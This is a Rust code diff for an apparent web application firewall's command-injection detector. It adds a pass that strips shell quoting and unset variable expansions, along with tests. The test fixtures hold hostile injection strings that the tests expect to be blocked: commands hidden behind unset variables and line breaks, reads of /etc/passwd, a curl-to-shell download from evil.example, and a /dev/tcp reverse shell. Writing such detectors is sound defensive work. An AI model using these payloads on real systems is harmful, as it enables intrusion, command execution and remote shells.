@@ -11,7 +11,7 @@ use std::sync::LazyLock;
 use super::shared::{Bank, Literals, push_once};
 
 use crate::model::{Class, Finding, Rule, Severity, Target};
-use crate::transform::{View, Views};
+use crate::transform::{View, Views, shell_unquote};
 
 const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
     Rule {
@@ -500,6 +500,19 @@ pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Fi
             push_once(RULES, r, &mut seen, paranoia, t, View::Decoded, m, out)
         });
     }
+    // The shell view reads a line break as a space, so the line rules look at the decoded
+    // value; read again with its quoting and unset expansions removed as the shell view does
+    // (case and line breaks kept), a command split or hidden that way after a line break
+    // (`x⏎wh${u}oami`, `x⏎${u} id`, `x⏎w'h'oami`) reads as written out.
+    if decoded.contains(['\n', '\r']) && decoded.contains(['$', '\'', '"', '\\', '`']) {
+        let mut unquoted = String::with_capacity(decoded.len());
+        shell_unquote(decoded, &mut unquoted);
+        if unquoted != decoded {
+            DECODED.scan(&unquoted, |r, m| {
+                push_once(RULES, r, &mut seen, paranoia, t, View::Shell, m, out)
+            });
+        }
+    }
 }
 
 #[cfg(test)]
@@ -588,6 +601,47 @@ mod tests {
         "x;w'h'$u\"o\"ami",
     ];
 
+    /// An unset variable standing as the first word of a command (the shell drops the empty
+    /// word and runs the next one), after a separator, a substitution or a line break; and
+    /// words split by unset variables or quotes after a line break. Blocked by this detector
+    /// (as rule 1300) and by the whole engine, in a query and in JSON.
+    const UNSET_FIRST_WORDS: &[&str] = &[
+        "x;${u} id",
+        "x;$u id",
+        "x; ${u} id",
+        "x;${u:-} id",
+        "x;${u}${v} uname -a",
+        "x;${u} ${v} whoami",
+        "x;$u$v id",
+        "x|${u} id",
+        "x&&${u} whoami",
+        "x||$u id",
+        "$(${u} id)",
+        "x`${u} id`",
+        "x;${u}\tsleep 10",
+        "x\n${u} id",
+        "x\nwh${u}oami",
+        "x\nw'h'oami",
+        "127.0.0.1\n$u cat /etc/hosts",
+    ];
+
+    #[test]
+    fn unset_expansions_before_the_command() {
+        for v in UNSET_FIRST_WORDS {
+            assert!(
+                ids(v, 1).contains(&1300),
+                "no 1300: {v:?} -> {:?}",
+                ids(v, 1)
+            );
+            for json in [false, true] {
+                let o = engine(v, json);
+                assert!(o.blocked, "engine (json {json}) let through {v:?}");
+            }
+        }
+        // `/etc/passwd` blocked already (traversal); the command now reads as one too.
+        assert!(ids("x;${u}${v} cat /etc/passwd", 1).contains(&1300));
+    }
+
     /// Commands quoted in prose, and look-alikes of the rules above.
     const PROSE: &[&str] = &[
         "Run `ls -la` to list the files",
@@ -612,6 +666,12 @@ mod tests {
         "tom & jerry > all",
         "name\nid\nemail",
         "Hello ${name}, your id is ${id}",
+        "Hello ${name}",
+        "price: ${amount} USD",
+        "Total: ${total}; ${count} items left",
+        "Dear ${name},\n${count} items are waiting; ${link} to see them",
+        "Order ${id} | ${status} set by ${user}",
+        "(${amount} id cards)",
     ];
 
     #[test]
@@ -640,6 +700,43 @@ mod tests {
         assert!(ids("Try `ping 8.8.8.8` first", 2).contains(&1316));
         assert!(ids("The host is down.\nping -c 4 example.com\nthen", 2).contains(&1317));
         assert!(ids("```\ntail -f app.log\n```", 2).contains(&1317));
+    }
+
+    /// A backticked command after a space: what sets an injection apart from inline code in
+    /// prose blocks at paranoia 1 (by the rule for what it does), the bare command does not,
+    /// as the same shape is Markdown (paranoia 2, 1316). Pins the decision documented in
+    /// `docs/waf.md`.
+    #[test]
+    fn backticked_commands_after_a_space() {
+        for v in [
+            "foo `$(id)`",
+            "foo `id;uname`",
+            "foo `curl http://evil.example/x | sh`",
+            "foo `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`",
+            "foo `/usr/bin/id`",
+            "foo `cat /etc/passwd`",
+        ] {
+            for json in [false, true] {
+                assert!(
+                    engine(v, json).blocked,
+                    "engine (json {json}) let through {v:?}"
+                );
+            }
+        }
+        for v in [
+            "foo `uname -a`",
+            "Output of `uname -a` attached",
+            "#### `which`",
+            "I ran `make > /tmp/build.log 2>&1` and it failed",
+        ] {
+            for json in [false, true] {
+                assert!(
+                    !engine(v, json).blocked,
+                    "engine (json {json}) blocked {v:?}"
+                );
+            }
+        }
+        assert!(ids("foo `uname -a`", 2).contains(&1316));
     }
 
     #[test]
